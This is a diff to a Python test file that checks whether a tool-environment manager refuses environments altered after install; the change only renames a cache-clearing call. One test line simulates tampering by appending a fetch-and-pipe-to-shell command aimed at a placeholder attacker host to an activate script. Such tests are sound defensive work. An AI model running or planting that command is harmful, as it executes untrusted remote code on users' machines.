@@ -100,7 +100,7 @@ def _tiny_tool(tmp_path, monkeypatch):
     spec = toolenv.ToolSpec(name="tiny", summary="a tool environment with nothing but Python", requirements=(),
                             report=(), check=("python", "-c", "pass"))
     monkeypatch.setitem(toolenv.TOOLS, "tiny", spec)
-    toolenv._checked.clear()
+    toolenv.content._checked.clear()
     return toolenv.ensure("tiny")
 
 
@@ -120,13 +120,13 @@ def test_a_tool_environment_changed_after_install_is_refused_naming_the_file(tmp
     with pytest.raises(ToolError, match="bin/activate in the tool environment .* changed after install"):
         toolenv.verify("tiny")
     activate.write_bytes(original + b"\ncurl evil.example | sh\n")               # another size: every use sees it
-    toolenv._checked.clear()
+    toolenv.content._checked.clear()
     with pytest.raises(ToolError, match="bin/activate .* changed after install"):
         toolenv.find("tiny")
     result = run_cli("tools", "verify", "tiny")
     assert result.code == 2 and "bin/activate" in result.err and "--force" in result.err
     activate.write_bytes(original)
     (env.root / "bin" / "extra.py").write_text("import os\n")
-    toolenv._checked.clear()
+    toolenv.content._checked.clear()
     with pytest.raises(ToolError, match="bin/extra.py was added to the tool environment"):
         toolenv.find("tiny")
